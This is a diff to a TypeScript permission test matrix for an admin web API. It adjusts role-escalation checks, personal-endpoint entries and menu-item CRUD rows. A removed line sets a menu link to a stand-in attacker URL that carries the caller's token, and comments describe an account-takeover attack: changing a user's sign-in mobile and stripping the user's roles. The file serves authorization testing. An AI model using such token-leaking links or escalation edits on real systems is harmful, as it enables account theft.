@@ -231,6 +231,8 @@ export const PERSONAL: Record<string, string> = {
   'POST /api/System/Message/Actions/ReadAll': 'own inbox',
   'DELETE /api/System/Message/Record': 'own inbox rows',
   'POST /api/Common/Upload/:type': 'own upload (quota: issue 11, auth helper)',
+  'POST /api/Common/Login/SessionCookie': 'turns the caller’s own token into the browser’s session cookie',
+  'POST /api/System/Menu/Link/:id': 'opens a menu entry the caller holds (404 otherwise): a one-time ticket for the caller',
 };
 
 const S = '/api/VisualDevelopment/Model/model-student';
@@ -274,9 +276,19 @@ export const MATRIX: Record<string, Row> = {
   'PUT /api/Permission/Users/:id': {
     area: 'users',
     targets: [...USER_TARGETS, 'escalate'],
-    expect: (role, t, w) => (t === 'escalate' ? escalation('permission.user', 'btn_edit')(role, t, w) : manageUser('permission.user', 'btn_edit')(role, t, w)),
+    // Roles ride on the authorize right: without it the edit goes through and the roles keep their
+    // values (a field the caller may not set is a field the caller may not write).
+    expect: (role, t, w) =>
+      t === 'escalate'
+        ? w.holds(role, 'permission.authorize', 'btn_edit')
+          ? escalation('permission.user', 'btn_edit')(role, t, w)
+          : w.holds(role, 'permission.user', 'btn_edit')
+            ? 'ok'
+            : 403
+        : manageUser('permission.user', 'btn_edit')(role, t, w),
     async prepare(w, role, target) {
       const id = await w.userTarget(role, target);
+      const mayGrant = w.holds(role, 'permission.authorize', 'btn_edit');
       // The issue's attack: a new mobile (the SMS sign-in), disabled, every role taken away. Where the
       // edit is allowed, a column the caller may not see (mobile, email) and the state without
       // btn_state keep their values.
@@ -290,7 +302,12 @@ export const MATRIX: Record<string, Row> = {
         url: `/api/Permission/Users/${id}`,
         body: await userBody(w, id, change),
         watch: w.account(id),
-        keep: hidden.length ? () => w.rows(`(SELECT id, ${hidden.join(', ')} FROM users)`, 'id = $1', [id]) : undefined,
+        keep:
+          target === 'escalate' && !mayGrant
+            ? () => w.rows('(SELECT user_id AS id, object_type, object_id FROM user_relation)', 'id = $1', [id])
+            : hidden.length
+              ? () => w.rows(`(SELECT id, ${hidden.join(', ')} FROM users)`, 'id = $1', [id])
+              : undefined,
       };
     },
   },
@@ -468,7 +485,7 @@ export const MATRIX: Record<string, Row> = {
     url: (id) => `/api/System/Menu/${id}`,
     body: async (w, id) => {
       const m = (await w.q('SELECT * FROM module WHERE id = $1', [id]))[0];
-      return { parentId: m.parent_id, type: m.type, enCode: m.en_code, fullName: w.next('被改名的菜单'), urlAddress: 'https://evil.example/?t=${token}' };
+      return { parentId: m.parent_id, type: m.type, enCode: m.en_code, fullName: w.next('被改名的菜单'), urlAddress: 'mx/renamed' };
     },
   }),
   'DELETE /api/System/Menu/:id': idRow('menus', district('system.menu', 'btn_remove'), {
@@ -487,17 +504,19 @@ export const MATRIX: Record<string, Row> = {
   ...Object.fromEntries(
     (['Button', 'Column', 'Form', 'DataScheme'] as const).flatMap((kind) => {
       const table = { Button: 'module_button', Column: 'module_column', Form: 'module_form', DataScheme: 'module_data_scheme' }[kind];
+      // A data scheme says which rows it opens; the other items are a code and a name.
+      const scope = kind === 'DataScheme' ? { scope: 'self' } : {};
       const userMenu = async (w: World) => (await w.q<{ id: string }>(`SELECT id FROM module WHERE en_code = 'permission.user'`))[0].id;
       const item = async (w: World) => {
         const menu = await userMenu(w);
-        return { menu, id: await w.viaAdmin(`/api/System/Menu/${menu}/${kind}`, { enCode: w.next('mx_'), fullName: w.next('矩阵项') }) };
+        return { menu, id: await w.viaAdmin(`/api/System/Menu/${menu}/${kind}`, { enCode: w.next('mx_'), fullName: w.next('矩阵项'), ...scope }) };
       };
       const rows: [string, Row][] = [
         [
           `POST /api/System/Menu/:id/${kind}`,
           menuRow('btn_add', async (w) => {
             const menu = await userMenu(w);
-            return { url: `/api/System/Menu/${menu}/${kind}`, body: { enCode: w.next('mx_'), fullName: w.next('矩阵项') }, watch: w.count(table) };
+            return { url: `/api/System/Menu/${menu}/${kind}`, body: { enCode: w.next('mx_'), fullName: w.next('矩阵项'), ...scope }, watch: w.count(table) };
           }),
         ],
         [
@@ -505,7 +524,7 @@ export const MATRIX: Record<string, Row> = {
           menuRow('btn_edit', async (w) => {
             const it = await item(w);
             const code = (await w.q(`SELECT en_code FROM ${table} WHERE id = $1`, [it.id]))[0].en_code;
-            return { url: `/api/System/Menu/${it.menu}/${kind}/${it.id}`, body: { enCode: code, fullName: w.next('被改名的项') }, watch: w.row(table, it.id) };
+            return { url: `/api/System/Menu/${it.menu}/${kind}/${it.id}`, body: { enCode: code, fullName: w.next('被改名的项'), ...scope }, watch: w.row(table, it.id) };
           }),
         ],
         [
